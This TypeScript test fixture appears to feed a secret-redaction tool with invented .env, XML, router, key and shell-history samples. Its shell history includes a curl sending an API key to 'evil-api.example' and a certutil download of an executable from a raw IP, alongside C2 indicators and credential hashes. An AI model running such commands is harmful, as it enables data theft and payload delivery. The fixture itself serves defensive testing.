import type { Sample } from '../sample.ts';

/** Configuration, code and shells as they are pasted beside an incident. All of it is invented. */
export const CONFIGS: readonly Sample[] = [
  {
    name: 'an .env file and its neighbours',
    text: `DB_PASSWORD=hG7-kk2_Qa
DB_HOST=db01.prod.internal
REDIS_URL=redis://:s3cr3tRed1s@10.2.0.9:6379/0
SMTP_PASS='Brief!Taube9'
STRIPE_KEY=sk_live_51H8abcdEFGHijklMNOPqrst
SLACK=https://hooks.slack.com/services/T00000000/B00000000/XXXXYYYYZZZZ1234abcd5678
OPENAI_API_KEY=sk-proj-abcd1234EFGH5678ijkl9012MNOP
GITLAB_TOKEN: glpat-AbCdEfGhIjKlMnOpQrSt
DO_TOKEN=dop_v1_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
AZURE=DefaultEndpointsProtocol=https;AccountName=nordhafenlogs;AccountKey=Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYg==;EndpointSuffix=core.windows.net
SAS=https://nhl.blob.core.windows.net/x?sv=2022-11-02&sig=a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ%3D
C2_HOST=panel-sync.example # from the loader
C2_PORT=8443`,
    secrets: [
      'hG7-kk2_Qa',
      'db01.prod.internal',
      's3cr3tRed1s',
      '10.2.0.9',
      'Brief!Taube9',
      'sk_live_51H8abcdEFGHijklMNOPqrst',
      'T00000000/B00000000/XXXXYYYYZZZZ1234abcd5678',
      'sk-proj-abcd1234EFGH5678ijkl9012MNOP',
      'glpat-AbCdEfGhIjKlMnOpQrSt',
      'dop_v1_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
      'Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYg==',
      'sig=a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ%3D',
    ],
    indicators: ['C2_HOST=panel-sync.example', 'C2_PORT=8443'],
  },
  {
    name: 'a web.config and a wireless profile (XML)',
    text: `<connectionStrings><add name="crm" connectionString="Server=sql02.corp.local;Database=crm;User Id=crm_app;Password=pX9!mm21;" /></connectionStrings>
<appSettings><add key="ApiKey" value="7d9f0c2a-55aa-4c11-9e21-0a1b2c3d4e5f" /></appSettings>
<WLANProfile><name>NHL-Intern</name><keyMaterial>Hafenkran42!</keyMaterial></WLANProfile>
<rule><c2>wlan-kit.example</c2><sha1>2fd4e1c67a2d28fced849ee1bb76e7391b93eb12</sha1></rule>`,
    secrets: [
      'sql02.corp.local',
      'crm_app',
      'pX9!mm21',
      '7d9f0c2a-55aa-4c11-9e21-0a1b2c3d4e5f',
      'Hafenkran42!',
    ],
    indicators: ['wlan-kit.example', '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12'],
  },
  {
    name: 'a router configuration',
    text: `hostname srv-rt-edge1
enable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0
username netadmin privilege 15 password 7 0822455D0A16
snmp-server community Hf3n-RO RO 10.99.0.0 0.0.255.255
crypto isakmp key VpnKey#77 address 203.0.113.254
tacacs-server key 0 TacKey!9
ip route 0.0.0.0 0.0.0.0 203.0.113.1
deny ip host 5.188.206.14 any log`,
    secrets: [
      'srv-rt-edge1',
      '$1$mERr$hx5rVt7rPNoS4wqbXKX7m0',
      '0822455D0A16',
      'Hf3n-RO',
      '10.99.0.0',
      'VpnKey#77',
      '203.0.113.254',
      'TacKey!9',
      '203.0.113.1',
    ],
    indicators: ['5.188.206.14'],
  },
  {
    name: 'keys, certificates and hashes on one page',
    text: `-----BEGIN RSA PRIVATE KEY-----
MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu
-----END RSA PRIVATE KEY-----
PuTTY-User-Key-File-3: ssh-ed25519
Private-Lines: 1
AAAAIEx5cXVrbGF1c2Vsa2xhdXNlbGtsYXVzZWxrbGF1c2U=
AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSQXXXXX
jane:$2b$12$KIXQ4k1b2c3d4e5f6g7h8uO1p2q3r4s5t6u7v8w9x0y1z2A3B4C5D
mssql 0x0200F733058A07892C5CACE899768F89965F6BD1DED7955FE89E1C9A10E27849B0B213B5CE92CC9347ECCB34C3EFADAF2FD99BFFECD8D9150DD6AACB5D409A9D2652A4E0AF16
$krb5tgs$23$*svc_sql$CORP$mssql/sql02*$63386d22d359fe42230300d56852c9eb$891ad31d09ab89c6b3b8c5e5de6c06a7f49fd559
sample sha256 2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae
-----BEGIN CERTIFICATE-----
MIIBszCCARygAwIBAgIJAJ
-----END CERTIFICATE-----`,
    secrets: [
      'MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu',
      'AAAAIEx5cXVrbGF1c2Vsa2xhdXNlbGtsYXVzZWxrbGF1c2U=',
      'AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSQXXXXX',
      '$2b$12$KIXQ4k1b2c3d4e5f6g7h8uO1p2q3r4s5t6u7v8w9x0y1z2A3B4C5D',
      '0x0200F733058A07892C5CACE899768F89965F6BD1DED7955FE89E1C9A10E27849B0B213B5CE92CC9347ECCB34C3EFADAF2FD99BFFECD8D9150DD6AACB5D409A9D2652A4E0AF16',
      '$krb5tgs$23$*svc_sql$CORP$mssql/sql02*$63386d22d359fe42230300d56852c9eb$891ad31d09ab89c6b3b8c5e5de6c06a7f49fd559',
    ],
    indicators: [
      '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae',
      'MIIBszCCARygAwIBAgIJAJ',
    ],
  },
  {
    name: 'a shell history',
    text: `ssh -i ~/.ssh/id_rsa svc@10.7.7.7
mysql -h db02.prod.internal -u root -pT1gerente! crm
export AWS_SECRET_ACCESS_KEY=Abcd1234/Efgh5678+Ijkl9012Mnop3456Qrst78
curl -H "Authorization: Bearer ya29.a0AfH6SMBx-abc_DEF123" https://api.corp.intranet/v1
curl -H 'X-Api-Key: 9c1185a5c5e9fc54612808977ee8f548' https://evil-api.example/drop
sshpass -p 'Kr4nF4hrer' scp x nas.local:/vol
certutil -urlcache -f http://80.66.75.37/a.exe a.exe`,
    secrets: [
      '10.7.7.7',
      'db02.prod.internal',
      'T1gerente!',
      'Abcd1234/Efgh5678+Ijkl9012Mnop3456Qrst78',
      'ya29.a0AfH6SMBx-abc_DEF123',
      'api.corp.intranet',
      '9c1185a5c5e9fc54612808977ee8f548',
      'Kr4nF4hrer',
      'nas.local',
    ],
    indicators: ['https://evil-api.example/drop', 'http://80.66.75.37/a.exe'],
  },
];
